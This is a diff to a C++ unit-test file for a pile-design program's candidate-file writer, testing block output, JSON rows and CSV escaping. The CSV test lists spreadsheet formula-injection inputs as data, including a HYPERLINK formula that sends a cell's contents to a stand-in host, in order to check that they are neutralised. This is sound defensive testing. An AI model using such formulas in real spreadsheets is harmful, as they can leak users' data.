@@ -1,15 +1,18 @@
 #include "candidate_file.h"
 #include "candidate_filter.h"
+#include "candidate_sort.h"
 #include "file_names.h"
 #include "sweep.h"
 #include "text_file.h"
 
 #include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
 
 #include <filesystem>
 #include <fstream>
 #include <iterator>
 #include <string>
+#include <vector>
 
 namespace {
 
@@ -111,6 +114,161 @@ TEST(CandidateFile, SavedInTheSystemCodePageUnderItsName)
     ASSERT_TRUE(failure);
     EXPECT_NE(failure->find("No such file or directory"), std::string::npos) << *failure;
     std::filesystem::remove_all(folder);
+}
+
+// Tables of every kind a sweep gives a file: all sections, both bases, thin sockets, the overburden
+// with its appendix, every precision, more than one block of bytes, filtered and sorted.
+struct TFileCase
+{
+    std::string name;
+    TSweepResult sweep;
+    TCandidateFile file;
+};
+
+std::vector<TFileCase> FileCases()
+{
+    std::vector<TFileCase> cases;
+    const auto add = [&cases](std::string name, const TOptionTable &options,
+                              const TPileInput &base) {
+        TFileCase &c = cases.emplace_back();
+        c.name = std::move(name);
+        c.sweep = RunSweep(options, base);
+        c.file.table = &c.sweep.table;
+        c.file.soilAppendix = WantsSoilAppendix(options);
+        c.file.soilLayers = base.soilLayers;
+        c.file.timeStamp = "2024/3/5 14:07:09";
+    };
+    TPileInput base;
+    add("mixed sections", MixedSections(), base);
+    TOptionTable options = DefaultOptionTable();
+    options[OptionRow::Diameter].maximum = "2000";
+    options[OptionRow::Diameter].step = "100";
+    options[OptionRow::SocketDepth].minimum = "200";
+    options[OptionRow::SocketDepth].maximum = "2000";
+    options[OptionRow::SocketDepth].step = "150";
+    options[OptionRow::Overburden].minimum = "1";
+    base.soilLayers = {{"5.00", "200.00"}, {"3.50", "120"}};
+    for (const TRoundingMode rounding : {TRoundingMode::TwoDecimals, TRoundingMode::Tens}) {
+        base.rounding = rounding;
+        add("overburden, rounding " + std::to_string(static_cast<int>(rounding)), options, base);
+    }
+    return cases;
+}
+
+std::string Encoded(const TCandidateFile &file, TLineEncoding encoding)
+{
+    std::string bytes;
+    ForEachCandidateFileLine(file, [&](std::string_view line) {
+        bytes += encoding == TLineEncoding::Utf8 ? std::string(line) : ToSystemCodePage(line);
+        bytes += encoding == TLineEncoding::Utf8 ? "\n" : "\r\n";
+    });
+    return bytes;
+}
+
+// The file written in blocks is the file of the line writer, byte for byte, in either encoding,
+// raw, filtered and sorted.
+TEST(CandidateFile, BlocksHoldTheLinesOfTheLineWriter)
+{
+    std::vector<TFileCase> cases = FileCases();
+    for (TFileCase &c : cases) {
+        SCOPED_TRACE(c.name);
+        ASSERT_FALSE(c.sweep.table.Empty());
+        TSortState sort;
+        TCandidateTable sorted = c.sweep.table;
+        ClickHeader(sorted, sort, CandidateColumn::Ra);
+        // Lists that end in every part of the chunks of rows the threads make (of the first large
+        // table): one row, past a chunk of 8192 rows, past a round of two chunks, within one.
+        std::vector<TCandidateTable> parts;
+        for (const std::size_t size :
+             {std::size_t {1}, std::size_t {8193}, std::size_t {16385}, std::size_t {24581}}) {
+            if (size < c.sweep.table.Size() && &c == &cases.front() + 1) {
+                TCandidateTable &part = parts.emplace_back(c.sweep.table);
+                part.order.resize(size);
+            }
+        }
+        std::vector<const TCandidateTable *> tables = {&c.sweep.table, &sorted};
+        for (const TCandidateTable &part : parts)
+            tables.push_back(&part);
+        for (const TCandidateTable *table : tables) {
+            c.file.table = table;
+            for (const TLineEncoding encoding :
+                 {TLineEncoding::Utf8, TLineEncoding::SystemCodePage}) {
+                std::string bytes;
+                std::size_t blocks = 0;
+                WriteCandidateFile(c.file, encoding, [&](std::string_view block) {
+                    bytes += block;
+                    ++blocks;
+                });
+                EXPECT_EQ(bytes, Encoded(c.file, encoding));
+                if (bytes.size() > (2 << 20)) {
+                    EXPECT_GT(blocks, 1u);
+                }
+            }
+        }
+    }
+}
+
+// The JSON rows are the arrays of the rows' texts as the JSON library writes them.
+TEST(CandidateFile, JsonRowsAreTheArraysOfTheTexts)
+{
+    for (const TFileCase &c : FileCases()) {
+        SCOPED_TRACE(c.name);
+        const TCandidateTable &table = c.sweep.table;
+        std::string expected;
+        for (std::size_t k = 0; k < table.Size(); ++k) {
+            expected += nlohmann::json(CandidateTexts(table.Row(k), table.context)).dump();
+            expected += k + 1 < table.Size() ? ",\n" : "\n";
+        }
+        std::string bytes;
+        WriteCandidateJsonRows(table, TLineEncoding::Utf8,
+                               [&bytes](std::string_view block) { bytes += block; });
+        EXPECT_EQ(bytes, expected);
+    }
+}
+
+TEST(CandidateFile, CsvCellsAreQuotedAndKeptFromSpreadsheetFormulas)
+{
+    const std::pair<std::string, std::string> cases[] = {
+        {"ZH-0001", "ZH-0001"},
+        {"", ""},
+        {"a,b", "\"a,b\""},
+        {"say \"x\"", "\"say \"\"x\"\"\""},
+        {"two\nlines", "\"two\nlines\""},
+        // Plain numbers stay as they are, whatever their sign.
+        {"-5", "-5"},
+        {"+3.25", "+3.25"},
+        {"-1.5E3", "-1.5E3"},
+        {"25%", "25%"},
+        // A formula, or what a spreadsheet could take for one, gets an apostrophe in front.
+        {"-", "'-"},
+        {"=1+1", "'=1+1"},
+        {"+A1", "'+A1"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(1+1)", "'@SUM(1+1)"},
+        {"\tx", "'\tx"},
+        {"\r=x", "\"'\r=x\""},
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"a\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"a\"\")\""},
+        {"'=x", "''=x"},
+        {"'x", "'x"},
+    };
+    for (const auto &[text, cell] : cases)
+        EXPECT_EQ(CandidateCsvCell(text), cell) << text;
+
+    // A circle's c and the soil columns without overburden are "-".
+    const TSweepResult sweep = RunSweep(MixedSections(), TPileInput {});
+    std::string csv;
+    WriteCandidateCsv(sweep.table, TLineEncoding::Utf8,
+                      [&csv](std::string_view block) { csv += block; });
+    const std::size_t firstRow = csv.find('\n') + 1;
+    EXPECT_EQ(csv.substr(0, firstRow),
+              "桩编号,截面类型,d|a(mm),c|b(mm),Ra(kN),hr(m),frk(MPa),风化程度,插值依据,完整程度,"
+              "系数 c1,系数 c2,Qsr(kN),侧阻占比,Qpr(kN),端阻占比,Qrk(kN),Rsk(kN),土侧阻占比,"
+              "备注\n");
+    const std::string row = csv.substr(firstRow, csv.find('\n', firstRow) - firstRow);
+    EXPECT_EQ(row.substr(0, row.find(',', row.find(',', row.find(',') + 1) + 1) + 4),
+              "ZH-01,圆  桩,1000,'-,");
+    EXPECT_EQ(row.substr(row.size() - 7), ",'-,'-,");
 }
 
 } // namespace
